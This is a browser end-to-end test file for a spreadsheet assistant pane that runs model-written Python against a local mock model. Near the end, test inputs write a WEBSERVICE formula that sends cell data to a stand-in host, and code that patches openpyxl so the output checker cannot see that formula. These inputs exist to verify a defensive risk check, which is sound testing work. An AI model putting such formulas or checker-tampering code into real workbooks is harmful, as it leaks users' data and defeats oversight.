/**
 * The whole pane in Chromium, as a first-time user meets it: configure a model,
 * drop three workbooks, ask, approve the plan, download the result. The model is a
 * local mock of the OpenAI-compatible API (no real model is reachable here); the
 * Pyodide worker, the SDK and the browser are real. Fails if any request leaves localhost.
 */
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAndServe, launchChromium, watchRequests } from '../helpers/browser';
import { ROOT, makeFixtures, readWorkbook } from '../helpers/python';
import { startMockOpenAI } from '../mock-models/mock-openai';
import type { MockServer, MockStep } from '../mock-models/scenario';
import { STACK_PLAN, codeAnswer } from '../mock-models/stack-steps';

const ARTIFACTS = join(ROOT, 'tests', 'artifacts');
const answer = codeAnswer;
const PLAN = STACK_PLAN;

let browser: Browser;
let context: BrowserContext;
let server: PreviewServer;
let url: string;
let fixtures: string;
let requests: ReturnType<typeof watchRequests>;
const mocks: MockServer[] = [];

beforeAll(async () => {
  fixtures = makeFixtures();
  mkdirSync(ARTIFACTS, { recursive: true });
  const served = await buildAndServe();
  server = served.server;
  url = served.url;
  browser = await launchChromium();
  context = await browser.newContext({ acceptDownloads: true });
  requests = watchRequests(context);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await Promise.all(mocks.map((m) => m.close()));
});

async function openPane(steps: MockStep[], viewport = { width: 450, height: 900 }): Promise<Page> {
  const mock = await startMockOpenAI({ steps });
  mocks.push(mock);
  const page = await context.newPage();
  await page.setViewportSize(viewport);
  await page.goto(url);
  await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
  await page.getByTestId('settings-tab').click();
  await page.getByTestId('provider').selectOption('openai');
  await page.getByTestId('base-url').fill(`${mock.url}/v1`);
  await page.getByTestId('model').fill('llama3.1');
  await page.getByRole('tab', { name: 'Work' }).click();
  await page.getByTestId('file-input').setInputFiles(['north.xlsx', 'south.xlsx', 'west.xlsx'].map((n) => join(fixtures, 'stack', n)));
  await page.getByTestId('insights').waitFor({ timeout: 30_000 });
  return page;
}

async function ask(page: Page, text: string): Promise<void> {
  await page.getByTestId('request').fill(text);
  await page.getByTestId('request').press('Enter');
}

describe('the pane, end to end', () => {
  it('drops three workbooks, asks, approves the plan and downloads the right file', async () => {
    const page = await openPane([PLAN, answer('stack_filter')]);
    await expect(page.getByTestId('file-list').locator('li').count()).resolves.toBe(3);
    // Sizes count data rows (west.xlsx has two title rows above its header), with plural forms right.
    const listed = (await page.getByTestId('file-list').textContent()) ?? '';
    expect(listed).toContain('Data: 40 data rows × 5 columns, plus a header row; table Basesheet (40 rows)');
    expect(listed).toContain('Data: 40 data rows × 5 columns, plus 2 title rows and a header row');
    await expect(page.getByTestId('insights').textContent()).resolves.toMatch(/Stack the "Basesheet" tables/);
    await page.screenshot({ path: join(ARTIFACTS, 'pane-files-450.png'), fullPage: true });
    await ask(page, 'Stack these 3 workbooks with Basesheet tables and keep only rows where Sales > 1000');
    await page.getByTestId('approve').waitFor({ timeout: 60_000 });
    await page.screenshot({ path: join(ARTIFACTS, 'pane-plan-450.png'), fullPage: true });
    await page.getByTestId('approve').click();
    const link = page.getByTestId('download');
    await link.waitFor({ timeout: 60_000 });
    await page.screenshot({ path: join(ARTIFACTS, 'pane-result-450.png'), fullPage: true });
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const saved = join(fixtures, 'pane-result.xlsx');
    await download.saveAs(saved);
    const rows = readWorkbook(saved).Stacked!.rows.slice(1);
    const expected = (JSON.parse(readFileSync(join(fixtures, 'stack', 'expected.json'), 'utf8')) as { Sales: number }[]).filter((r) => r.Sales > 1000);
    expect(rows).toHaveLength(expected.length);
    await expect(page.getByTestId('result').textContent()).resolves.toMatch(/sheet "Stacked" has the planned columns/);
    await expect(page.getByTestId('result').textContent()).resolves.toContain(`Stacked: ${expected.length} data rows × 7 columns, plus a header row`);
    // Every row in the virtualized grid: the row count is the whole sheet, the DOM holds only a window of it.
    await page.getByTestId('show-all-rows').first().click();
    const grid = page.getByTestId('sheet-grid').first();
    await grid.waitFor({ timeout: 60_000 });
    await expect(grid.getAttribute('aria-rowcount')).resolves.toBe(String(expected.length + 1));
    await grid.evaluate((el) => el.scrollTo(0, el.scrollHeight));
    await expect.poll(() => grid.locator('[role=rowheader]').last().textContent(), { timeout: 10_000 }).toBe(String(expected.length));
    expect(await grid.locator('[role=row]').count()).toBeLessThanOrEqual(Math.min(expected.length, 30) + 1);
    // History remembers it, in this browser, after a reload too.
    await page.reload();
    await page.getByTestId('history-tab').click();
    await expect(page.getByTestId('history').textContent()).resolves.toMatch(/success.*Stack these 3 workbooks with Basesheet tables/);
    await page.close();
  });

  it('shows a failed try and the retry that fixed it', async () => {
    const page = await openPane([PLAN, answer('stack_filter_wrong_column'), answer('stack_filter')]);
    await ask(page, 'Stack and keep Sales > 1000');
    await page.getByTestId('approve').click({ timeout: 60_000 });
    await page.getByTestId('download').waitFor({ timeout: 60_000 });
    await page.getByTestId('failed-tries').getByRole('button').first().click(); // folded once the result stands
    await expect(page.getByTestId('attempt-failed').textContent()).resolves.toMatch(/Try 1 did not work.*The code looked for "Revenue" \(line 14\), which is not in the data.*The model is trying again/);
    await page.close();
  });

  it('cancels during a run', async () => {
    const page = await openPane([PLAN, { text: '```python\nwhile True:\n    pass\n```' }]);
    await ask(page, 'Stack and keep Sales > 1000');
    await page.getByTestId('approve').click({ timeout: 60_000 });
    await page.getByTestId('progress').filter({ hasText: /Running/ }).waitFor({ timeout: 60_000 });
    await page.getByTestId('cancel').click();
    await page.getByTestId('cancelled').waitFor({ timeout: 30_000 });
    await page.close();
  });

  it('fits a 320 px and a 450 px pane, in light and dark', async () => {
    for (const width of [320, 450]) {
      for (const scheme of ['light', 'dark'] as const) {
        const page = await context.newPage();
        await page.emulateMedia({ colorScheme: scheme });
        await page.setViewportSize({ width, height: 800 });
        await page.goto(url);
        await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        expect(overflow, `horizontal overflow at ${width} px (${scheme})`).toBeLessThanOrEqual(0);
        await page.screenshot({ path: join(ARTIFACTS, `pane-${width}-${scheme}.png`), fullPage: true });
        await page.close();
      }
    }
  });

  it('names a formula that reaches the network before the result can be downloaded', async () => {
    const page = await context.newPage();
    await page.goto(url);
    await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
    await page.getByTestId('code').fill('import openpyxl\nwb = openpyxl.Workbook()\nwb.active["A1"] = "id-7"\nwb.active["B1"] = \'=WEBSERVICE("https://prices.example/?q="&A1)\'\nwb.save("/output/prices.xlsx")');
    await page.getByTestId('run').click();
    const warning = page.getByTestId('output-risks');
    await warning.waitFor({ timeout: 60_000 });
    await expect(warning.textContent()).resolves.toMatch(/1 formula in prices\.xlsx may reach the network.*Sheet!B1 \(WEBSERVICE\)/);
    await expect(page.getByTestId('download').isDisabled()).resolves.toBe(true);
    await page.getByTestId('allow-risky-output').check();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download').click()]);
    expect(download.suggestedFilename()).toBe('prices.xlsx');
    await page.close();
  });

  it('still names it when the code tampered with openpyxl to hide it: the check runs in a fresh interpreter', async () => {
    const page = await context.newPage();
    await page.goto(url);
    await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
    // The check reads outputs with openpyxl in read-only mode; this makes every read-only sheet look empty.
    const tamper = [
      'import openpyxl',
      'wb = openpyxl.Workbook()',
      'wb.active["A1"] = \'=WEBSERVICE("https://prices.example/?q="&B1)\'',
      'wb.save("/output/hidden.xlsx")',
      'ro = openpyxl.load_workbook("/output/hidden.xlsx", read_only=True)',
      'type(ro.active).iter_rows = lambda self, *a, **k: iter(())',
    ].join('\n');
    await page.getByTestId('code').fill(tamper);
    await page.getByTestId('run').click();
    const warning = page.getByTestId('output-risks');
    await warning.waitFor({ timeout: 60_000 });
    await expect(warning.textContent()).resolves.toMatch(/1 formula in hidden\.xlsx may reach the network.*Sheet!A1 \(WEBSERVICE\)/);
    await expect(page.getByTestId('download').isDisabled()).resolves.toBe(true);
    await page.close();
  });

  it('never sent a request off localhost', () => {
    expect(requests.offHost).toEqual([]);
  });
});
